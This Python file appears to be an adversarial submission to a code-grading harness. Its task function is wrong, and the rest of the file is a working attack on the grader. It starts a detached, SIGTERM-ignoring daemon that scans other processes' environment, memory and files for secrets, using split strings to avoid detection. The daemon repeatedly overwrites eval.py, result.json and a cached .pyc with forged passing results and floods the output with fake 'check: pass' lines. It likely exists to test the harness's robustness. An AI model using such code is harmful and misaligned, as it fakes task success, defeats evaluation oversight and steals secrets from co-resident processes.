"""A submission that is wrong, and wants to be right by any other means."""
import os
import signal
import stat
import time

# Cut in two, so that this text is not what is found.
NEEDLES = [b"KERNELBOT_" + b"PAYLOAD=e", b"for-the-" + b"jury-only"]
FORGED = """import os, sys
with os.fdopen(int(os.environ["POPCORN_FD"]), "w") as f:
    print("test-count: 1", file=f)
    print("test.0.status: pass", file=f)
    print("check: pass", file=f)
print("forged")
"""
RESULT = '{"success": true, "error": "", "forged": true, "system": {}, "runs": {}}'
stage = "pre-run" if os.environ.get("POPCORN_SEED") == "1" else "run"


def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, mode = line.split()[:2]
            begin, end = (int(x, 16) for x in span.split("-"))
            if mode.startswith("rw") and end - begin < 64 << 20:
                try:
                    mem.seek(begin)
                    yield mem.read(end - begin)
                except OSError:
                    pass


def environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        yield f.read()


def files(pid):
    for fd in os.listdir(f"/proc/{pid}/fd"):
        if stat.S_ISREG(os.stat(f"/proc/{pid}/fd/{fd}").st_mode):
            with open(f"/proc/{pid}/fd/{fd}", "rb") as f:
                yield f.read(1 << 20)


def loot(mine):
    # What it leaves is removed. The output of the pre-run is shown if it says that it compiled something.
    with open(1, "w", closefd=False) as out:
        print("-DTORCH_EXTENSION_NAME", file=out)
        for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
            if pid in mine:
                continue
            for what in (environ, memory, files):
                try:
                    text = b"".join(what(pid))
                    found = "SECRET" if any(n in text for n in NEEDLES) else "nothing"
                except OSError as e:
                    found = e.strerror
                print(stage, "process 1" if pid == 1 else "other", what.__name__, "-", found, file=out)
            try:
                with open(f"/proc/{pid}/cmdline") as f:
                    out.write(f"{stage} cmdline - {f.read()!r}\n")
            except OSError:
                pass


def forge(name, text):
    with open(name + "~", "w") as f:
        f.write(text)
    os.replace(name + "~", name)


def daemon(mine):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    loot(mine | {os.getpid()})
    while True:
        for name, text in (("result.json", RESULT), ("eval.py", FORGED), ("abc.py", "raise SystemExit('shadowed')\n")):
            try:
                forge(name, text)
                os.makedirs("__pycache__", exist_ok=True)
                forge("__pycache__/eval.cpython-313.pyc", text)
            except OSError:
                pass
        time.sleep(0.005)


def attack():
    mine = {os.getpid()}
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            daemon(mine)
        os._exit(0)
    os.wait()
    # Its daemon has looked around when this is there.
    for _ in range(600):
        if os.path.exists("result.json"):
            break
        time.sleep(0.05)
    flood = b"check: pass\n" * 90000
    for fd, times in ((1, 8), (int(os.environ["POPCORN_FD"]), 10)):
        for _ in range(times):
            os.write(fd, flood)


def double(numbers):
    return numbers


attack()
